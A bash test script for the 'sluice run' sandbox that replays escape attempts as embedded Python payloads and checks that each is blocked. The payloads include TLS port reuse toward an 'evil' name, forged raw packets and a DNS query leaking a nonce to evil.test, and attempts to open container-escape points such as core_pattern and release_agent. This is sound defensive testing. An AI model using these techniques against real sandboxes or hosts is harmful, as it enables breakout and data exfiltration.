#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2329
# Ways around `sluice run` that were found by attacking it; each passed before it was mended.
. "$(dirname "$0")/lib.sh"
bed
capture s s0
as_user() { h c env SUDO_UID=65534 SUDO_GID=65534 "$SLUICE" run "$@"; }
as_root() { h c "$SLUICE" run "$@"; }

# A connection that was approved and that the server reset; then the same ports again, with another name.
REUSE='
import socket, ssl, sys, os, time
to, evil = sys.argv[1:3]
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
def conn():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 23456)); s.settimeout(15)
    s.connect((to, 443)); return s
socket.getaddrinfo("allowed.test", 443)
s = conn(); raw = s.dup(); t = ctx.wrap_socket(s, server_hostname="allowed.test")
print("approved", flush=True)
raw.settimeout(30)
try: # the server ends it at the first record, and resets it at what comes after
    for i in range(6000): raw.send(b"\x17\x03\x03\x40\x00" + b"X" * 16384 if i < 200 else b"x"); time.sleep(0 if i < 200 else 0.005)
except (ConnectionResetError, BrokenPipeError): print("reset", flush=True)
os.close(t.detach()); raw.close(); time.sleep(0.05)
t = ctx.wrap_socket(conn(), server_hostname=evil); print("second", t.version())'
reuse() {
    local n out
    n=$(nonce).test
    out=$("$1" --allow allowed.test -- "$PYTHON" -c "$REUSE" 198.18.2.80 "$n" 2>&1) && die "$out"
    grep -q '^reset' <<< "$out" || die "$out"
    grep -q "deny *tls *$n" <<< "$out" || die "$out"
    expect_not_arrived "$n" s
}

# What one run was allowed says nothing of the next.
DATAGRAM='
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 45454)); s.settimeout(15)
if sys.argv[2:]: socket.getaddrinfo("mirror.test", 9123)
s.sendto(sys.argv[1].encode(), ("198.18.2.81", 9123)); print(s.recv(100))'
after_a_run() {
    local n
    n=$(nonce)
    as_user --allow udp://mirror.test:9123 -- "$PYTHON" -c "$DATAGRAM" "first-$n" x
    expect_arrived "first-$n" s
    fails as_user -- "$PYTHON" -c "$DATAGRAM" "second-$n"
    expect_not_arrived "second-$n" s
}

# Root in a run of its own forges the source: our refusals, which quote, would go there.
FORGE='
import os, re, socket, struct, subprocess, sys
victim, word = sys.argv[1], sys.argv[2].encode()
link = next(n for _, n in socket.if_nameindex() if n != "lo")
raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800)); raw.bind((link, 0x800))
def checksum(b):
    s = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
def send(protocol, body, to="198.18.2.80"):
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, protocol, 0) + socket.inet_aton(victim) + socket.inet_aton(to)
    raw.sendto(ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + body, (link, 0x800, 0, 0, b"\xff" * 6))
for _ in range(3):
    send(17, struct.pack(">HHHH", 4000, 9, 8 + len(word), 0) + word)
    send(132, struct.pack(">HHII", 4000, 9, 0, 0) + word)
    name = bytes([len(word)]) + word + b"\4evil\4test\0\0\1\0\1"
    send(17, struct.pack(">HHHH", 4000, 53, 20 + len(name), 0) + struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name, "198.18.2.53")'
forged_source() {
    local n
    n=$(nonce)
    as_root --events "$T/forged.events" -- "$PYTHON" -c "$FORGE" 198.18.3.66 "$n"
    expect_not_arrived "$n"
    jq -s -e '[.[] | select(.event.reason == "forged_source" and .sluice.scope == "run") | .sluice.count // 1] | add == 9' "$T/forged.events"
}

# The kernel works for whoever asks: it starts programs outside of the job, and it sends group reports of its own.
KERNEL='
import ctypes, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
for number in (248, 249, 250): # add_key, request_key, keyctl
    assert libc.syscall(number, b"dns_resolver", b"word.evil.test", b"", 0) == -1 and ctypes.get_errno() == 38, number
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.setsockopt(socket.IPPROTO_IP, 39, socket.inet_aton("232.1.1.1") + socket.inet_aton("198.18.1.2") + b"NONC")
    sys.exit("the kernel took a source")
except OSError as e: assert e.errno == 92, e
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for sock, level, option, value in (
    (s, socket.IPPROTO_IP, 35, socket.inet_aton("239.1.2.3") + bytes(4)),
    (s, socket.IPPROTO_IP, 42, struct.pack("=IxxxxHxx4s", 0, socket.AF_INET, socket.inet_aton("239.1.2.3")).ljust(136, b"\0")),
    (six, socket.IPPROTO_IPV6, 20, b"\xff\x15WORDOFTHEJOB!!" + bytes(4)),
    (six, socket.IPPROTO_IPV6, 27, b"\x20\x01WORDOFTHEJOB!!" + bytes(4)),
    (s, socket.SOL_SOCKET, 51, struct.pack("HP", 0, 0))):
    try:
        sock.setsockopt(level, option, value)
        sys.exit("the kernel joined %d" % option)
    except OSError as e: assert e.errno == 92, (option, e)
print("held")'
kernel() { "$1" -- "$PYTHON" -c "$KERNEL" | grep held; }

# What makes the kernel of the host run something, or let something in, is not root's in there.  Opened, not written.
HOST='
import ctypes, glob, os, sys
libc = ctypes.CDLL(None, use_errno=True)
held, seen = sys.argv[1] == "held", 0
paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/usermodehelper/bset", "/proc/sys/kernel/poweroff_cmd",
         "/proc/sys/net/ipv4/ip_forward", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/bus/pci/rescan",
         "/proc/irq/default_smp_affinity", sys.argv[2] + "/kernel/mm/transparent_hugepage/enabled"]
for path in paths + glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:20]:
    try: os.close(os.open(path, os.O_WRONLY)); opened = True
    except FileNotFoundError: continue
    except OSError: opened = False
    seen += 1
    if held and opened: sys.exit("open: " + path)
    if not held and not opened: print("closed without sluice: " + path)
assert seen > 4, seen
for name, number, args in (("mount", 165, (b"x", b"/mnt", b"tmpfs", 0, 0)), ("umount", 166, (b"/proc/sys", 2)), ("fsopen", 430, (b"tmpfs", 0)), ("open_tree", 428, (-100, b"/", 1)),
                           ("unshare", 272, (0x20000,)), ("sethostname", 170, (b"x", 1)), ("swapon", 167, (b"/x", 0)), ("init_module", 175, (0, 0, b"")),
                           ("kexec_load", 246, (0, 0, 0, 0)), ("bpf", 321, (5, bytes([1] + [0] * 127), 128))):
    if held and os.uname().machine == "x86_64" and libc.syscall(number, *args) != -1: sys.exit("done: " + name)
print("held" if held else "tried")'
host_kernel() {
    mkdir -p "$T/sys"
    h c mount -t sysfs sysfs "$T/sys"
    h c "$PYTHON" -c "$HOST" tried "$T/sys" | tee "$T/out" | grep tried
    fails grep -q "closed.*$T/sys" "$T/out" # a real way
    as_root -- "$PYTHON" -c "$HOST" held "$T/sys" | grep held
    h c umount "$T/sys"
}

for who in as_user as_root; do
    check "the ports of a connection that was approved and reset ($who)" reuse $who
    [ "$(uname -m)" != x86_64 ] || check "keys, groups and group sources, for which the kernel itself acts ($who)" kernel $who
done
check "as root, the kernel of the host" host_kernel
check "the ports of a run before" after_a_run
check "a forged source gets no refusal, and is told" forged_source
finish
